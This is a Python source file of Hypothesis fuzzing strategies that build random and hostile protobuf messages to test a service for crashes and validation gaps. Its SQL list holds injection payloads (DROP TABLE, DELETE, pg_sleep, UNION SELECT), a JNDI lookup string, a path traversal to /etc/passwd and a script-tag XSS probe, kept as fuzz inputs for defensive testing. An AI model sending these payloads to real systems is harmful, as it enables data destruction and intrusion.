"""Hypothesis strategies for any protobuf message, generated from its descriptor.

Every field gets random values of its type, biased to where services break:
boundary and huge integers, NaN and infinities, unknown enum numbers,
timestamps and durations far out of range, empty, huge, odd-unicode and
SQL-looking strings, deeply nested JSON, and bogus page tokens and log
positions. `Hints` adds known-good values (an existing conversation, turn,
position, page token) so that requests also get past the first check and
reach the application.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from google.protobuf import descriptor, message, message_factory
from hypothesis import strategies as st

FD = descriptor.FieldDescriptor

INT32 = (-(2**31), 2**31 - 1)
INT64 = (-(2**63), 2**63 - 1)
UINT32 = (0, 2**32 - 1)
UINT64 = (0, 2**64 - 1)

SQL = [
    "'; DROP TABLE turnlog.events; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(30)",
    "$$; TRUNCATE turnlog.events; $$",
    "x' UNION SELECT data FROM turnlog.events --",
    "%s %(x)s {0} {}",
    "\\x00\\\\'E'",
    "NULL",
    "conversations/a'; DELETE FROM turnlog.events; --",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
]
ODD = [
    "",
    " ",
    "\t\n\r",
    "\x00",
    "a\x00b",
    "\u202eevil",
    "\ufeff",
    "\u200b\u200c\u200d",
    "e\u0301\u0301\u0301\u0301",
    "🙂" * 20,
    "👩\u200d👩\u200d👧\u200d👦",
    "\U0001d518\U0001d52b\U0001d526",
    "\uffff\U0010ffff",
    "ﷺ" * 50,
    "\\u0000",
    "Ω≈ç√∫",
]
#: Sizes (code points) of huge strings: past every limit, up to past gRPC's 4 MiB.
HUGE_SIZES = [129, 1_025, 10_000, 70_000, 262_145, 1_000_001, 2_100_000]
HUGE_CHARS = ["a", "é", "🙂", " "]


def huge_strings() -> st.SearchStrategy[str]:
    return st.builds(
        lambda char, size: char * size, st.sampled_from(HUGE_CHARS), st.sampled_from(HUGE_SIZES)
    )


def strings() -> st.SearchStrategy[str]:
    return st.one_of(
        st.text(max_size=40),
        st.sampled_from(ODD),
        st.sampled_from(SQL),
        huge_strings(),
        st.text(alphabet=st.characters(codec="utf-8"), max_size=300),
    )


def nested_json() -> st.SearchStrategy[str]:
    """JSON text: ordinary objects, very deep nesting, and text that is not JSON."""
    leaves = st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=10))
    values = st.recursive(
        leaves,
        lambda inner: st.one_of(
            st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)
        ),
        max_leaves=20,
    )
    return st.one_of(
        st.dictionaries(st.text(max_size=8), values, max_size=4).map(json.dumps),
        st.integers(1, 200_000).map(lambda n: '{"a":' * n + "1" + "}" * n),
        st.integers(1, 200_000).map(lambda n: "[" * n + "]" * n),
        st.integers(1, 200_000).map(lambda n: "[" * n),
        st.sampled_from(["", "{", "[]", "null", "1e999999", '{"a":NaN}', '"x"', "{}"]),
    )


def bogus_tokens() -> st.SearchStrategy[str]:
    """Page tokens: random text, base64 of hostile JSON, base64 of not-JSON."""

    def b64(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")

    payloads = st.one_of(
        st.fixed_dictionaries(
            {
                "c": st.sampled_from(["", "seed-active", "x" * 300]),
                "t": st.one_of(st.none(), st.lists(st.text(max_size=5), max_size=3)),
                "a": st.one_of(
                    st.integers(*INT64),
                    st.integers(10**20, 10**40),
                    st.text(max_size=30),
                    st.just("99999999999999999999-1"),
                ),
            }
        ).map(json.dumps),
        st.builds(lambda n: '{"a":' * n + "}" * n, st.integers(1, 5000)),
        st.builds(
            lambda created, cid: f"{created}:{cid}",
            st.integers(-(10**30), 10**30),
            st.text(max_size=20),
        ),
    )
    return st.one_of(
        st.text(max_size=60),
        payloads.map(lambda p: b64(p.encode())),
        st.binary(max_size=60).map(b64),
        st.sampled_from(["=", "====", "!!!", "a", "YQ"]),
    )


def positions() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(
            [
                "0-0",
                "-1-1",
                "1-",
                "-",
                "99999999999999999999-1",
                "1-99999999999999999999",
                "9223372036854775807-9223372036854775807",
                "²-1",
                "١٢-٣",
                "1--1",
                " 1-1",
                "1-1 ",
            ]
        ),
        st.builds(
            lambda a, b: f"{a}-{b}", st.integers(-(10**25), 10**25), st.integers(-(10**25), 10**25)
        ),
        st.text(max_size=30),
    )


def regexes() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(
            [
                "(",
                "[",
                "a**",
                "(?=a)b",
                r"(a)\1",
                "(?P<n>a)",
                "(?i)a",
                r"\bword",
                r"\p{L}",
                "a{99999999999}",
                "x" * 5000,
                "",
                "[a-z]+",
                r"<tool_call>.*</tool_call>",
            ]
        ),
        st.text(max_size=20),
    )


@dataclass
class Hints:
    """Values by field name, mixed into the random ones (about one draw in two)."""

    by_name: dict[str, list[Any]] = field(default_factory=dict)
    strategies: dict[str, Callable[[], st.SearchStrategy[Any]]] = field(default_factory=dict)

    def for_field(
        self, f: descriptor.FieldDescriptor, *, known_only: bool = False
    ) -> st.SearchStrategy[Any] | None:
        options = []
        if self.by_name.get(f.name):
            options.append(st.sampled_from(self.by_name[f.name]))
        if f.name in self.strategies and not known_only:
            options.append(self.strategies[f.name]())
        return st.one_of(*options) if options else None


def _integers(bounds: tuple[int, int]) -> st.SearchStrategy[int]:
    low, high = bounds
    edges = (low, low + 1, -1, 0, 1, 2, 32, 33, 50, 500, 501, 1000, 1001, high - 1, high)
    return st.one_of(
        st.sampled_from(sorted({v for v in edges if low <= v <= high})), st.integers(low, high)
    )


def _scalar(f: descriptor.FieldDescriptor) -> st.SearchStrategy[Any]:
    t = f.type
    if t == FD.TYPE_STRING:
        return strings()
    if t == FD.TYPE_BYTES:
        return st.one_of(
            st.binary(max_size=200), st.sampled_from([b"", b"\n", b"{}\n", b"\xff\xfe"])
        )
    if t in (FD.TYPE_INT32, FD.TYPE_SINT32, FD.TYPE_SFIXED32):
        return _integers(INT32)
    if t in (FD.TYPE_INT64, FD.TYPE_SINT64, FD.TYPE_SFIXED64):
        return _integers(INT64)
    if t in (FD.TYPE_UINT32, FD.TYPE_FIXED32):
        return _integers(UINT32)
    if t in (FD.TYPE_UINT64, FD.TYPE_FIXED64):
        return _integers(UINT64)
    if t == FD.TYPE_DOUBLE:
        return st.one_of(st.sampled_from([0.0, -0.0, 1.0, 2.0, 2.0000001, -1.0]), st.floats())
    if t == FD.TYPE_FLOAT:
        return st.floats(width=32)
    if t == FD.TYPE_BOOL:
        return st.booleans()
    if t == FD.TYPE_ENUM:
        known = [v.number for v in f.enum_type.values]
        return st.one_of(st.sampled_from(known), _integers(INT32))
    raise AssertionError(f"no strategy for field type {t} of {f.full_name}")


def _times(full_name: str) -> st.SearchStrategy[dict[str, int]]:
    """Timestamp/Duration seconds and nanos, mostly out of range."""
    return st.fixed_dictionaries(
        {
            "seconds": st.one_of(
                st.sampled_from(
                    [
                        0,
                        -1,
                        1_700_000_000,
                        -62_135_596_801,
                        253_402_300_800,
                        315_576_000_001,
                        -(2**63),
                        2**63 - 1,
                    ]
                ),
                st.integers(*INT64),
            ),
            "nanos": st.one_of(
                st.sampled_from([0, -1, 999_999_999, 1_000_000_000]), st.integers(*INT32)
            ),
        }
    )


def _value(f: descriptor.FieldDescriptor, hints: Hints, depth: int) -> st.SearchStrategy[Any]:
    if f.type == FD.TYPE_MESSAGE:
        return messages(f.message_type, hints, depth + 1)
    base = _scalar(f)
    if f.name.endswith("json") or f.name.endswith("json_schema"):
        base = st.one_of(base, nested_json())
    hinted = hints.for_field(f)
    return st.one_of(hinted, base) if hinted is not None else base


def _map_entries(
    f: descriptor.FieldDescriptor, hints: Hints, depth: int
) -> st.SearchStrategy[dict[Any, Any]]:
    key_field = f.message_type.fields_by_name["key"]
    value_field = f.message_type.fields_by_name["value"]
    return st.one_of(
        st.dictionaries(
            _value(key_field, hints, depth), _value(value_field, hints, depth), max_size=4
        ),
        st.integers(65, 300).map(lambda n: {f"k{i}": "v" for i in range(n)}),
    )


def messages(
    desc: descriptor.Descriptor, hints: Hints, depth: int = 0
) -> st.SearchStrategy[message.Message]:
    """Messages of type `desc`: hostile ones, and plausible ones that reach the application.

    Hostile: each field set or not, with any value of its type. Plausible:
    fields with known-good values mostly take them, the others are mostly
    left unset, so that a request often passes validation and exercises what
    lies behind it (one bad value at a time).
    """
    return st.one_of(_messages(desc, hints, depth, False), _messages(desc, hints, depth, True))


def _messages(
    desc: descriptor.Descriptor, hints: Hints, depth: int, plausible: bool
) -> st.SearchStrategy[message.Message]:
    cls = message_factory.GetMessageClass(desc)
    if desc.full_name in ("google.protobuf.Timestamp", "google.protobuf.Duration"):
        times = _times(desc.full_name).map(lambda kw: cls(**kw))
        return st.one_of(st.just(cls(seconds=1_700_000_000)), times) if plausible else times

    def value(f: descriptor.FieldDescriptor) -> st.SearchStrategy[Any]:
        if f.type == FD.TYPE_MESSAGE:
            return _messages(f.message_type, hints, depth + 1, plausible)
        if plausible and (known := hints.for_field(f, known_only=True)) is not None:
            return known
        return _value(f, hints, depth)

    @st.composite
    def build(draw: st.DrawFn) -> message.Message:
        msg = cls()
        if depth > 3:
            return msg
        real_oneofs = [
            o for o in desc.oneofs if not (len(o.fields) == 1 and o.name == "_" + o.fields[0].name)
        ]
        chosen = {
            o.name: draw(st.sampled_from(list(o.fields) if plausible else [None, *o.fields]))
            for o in real_oneofs
        }
        for f in desc.fields:
            oneof = f.containing_oneof
            if oneof is not None and oneof.name in chosen:
                if chosen[oneof.name] is not f:
                    continue
            elif plausible:
                known = hints.for_field(f, known_only=True) is not None
                if not draw(st.integers(0, 9).map(lambda n, k=known: n < (8 if k else 2))):
                    continue
            elif not draw(st.booleans()):
                continue
            if f.message_type is not None and f.message_type.GetOptions().map_entry:
                getattr(msg, f.name).update(draw(_map_entries(f, hints, depth)))
            elif f.is_repeated:
                many = st.one_of(
                    st.lists(value(f), max_size=3),
                    st.integers(17, 80).map(lambda n: [None] * n),
                )
                items = draw(many)
                if items and items[0] is None:  # many copies of one value
                    items = [draw(value(f))] * len(items)
                getattr(msg, f.name).extend(items)
            elif f.type == FD.TYPE_MESSAGE:
                getattr(msg, f.name).CopyFrom(draw(value(f)))
            else:
                setattr(msg, f.name, draw(value(f)))
        return msg

    return build()
